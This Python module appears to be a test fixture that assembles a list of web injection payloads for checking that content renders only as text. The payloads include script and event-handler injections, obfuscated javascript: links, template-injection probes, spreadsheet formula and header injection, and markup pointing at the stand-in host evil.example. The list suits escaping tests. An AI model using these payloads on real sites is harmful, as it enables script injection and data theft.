"""Content that would run, load or lead somewhere if a page took it for anything but text."""

from __future__ import annotations

from itertools import product

PWN = "window.pwned=1"
_TAGS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{{display:none}}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><input name=token></form>",
    "<button formaction=https://evil.example/ form=f>x</button>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'></noscript>",
    "<!--<img src='--><script>{}</script>'>",
    "<dialog open><script>{}</script></dialog>",
    "<portal src=https://evil.example/>",
)
_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_CARRIERS = (
    "<img src=x {}={}>",
    "<svg {}={}>",
    "<body {}={}>",
    "<details open {}={}>",
    "<input autofocus {}={}>",
    "<video src=x {}={}></video>",
    "<a href=x {}={}>x</a>",
    "<x tabindex=1 {}={}>",
    '" {}="{}" x="',
    "' {}='{}' x='",
    "` {}=`{}` x=`",
)
_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:{}",
    "blob:https://evil.example/{}",
    "//evil.example/{}",
    "https://evil.example/?{}",
    "file:///etc/passwd#{}",
)
_LINKS = ("[press]({})", "![picture]({})", "<{}>", "<a href='{}'>press</a>", "[ref]: {}", "| [a]({}) |")
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ here.access.token }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{ request.app.state.workplace }}",
    "{# comment",
)
_DECEPTIVE = (
    "\x1b[2J\x1b]0;title\x07",
    "safe\u202egnp.exe",
    "\u2066\u2067\u2068\u2069",
    "\u200b\u200c\u200d\ufeff",
    "a\x00b\x08c",
    '=HYPERLINK("https://evil.example")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>window.pwned=1</script>",
    "data: x\n\nevent: changed\ndata: {}\n\n",
)
PAYLOADS = (
    *(tag.format(PWN) for tag in _TAGS),
    *(carrier.format(event, PWN) for carrier, event in product(_CARRIERS, _EVENTS)),
    *(link.format(scheme.format(PWN)) for link, scheme in product(_LINKS, _SCHEMES)),
    *_TEMPLATES,
    *_DECEPTIVE,
)
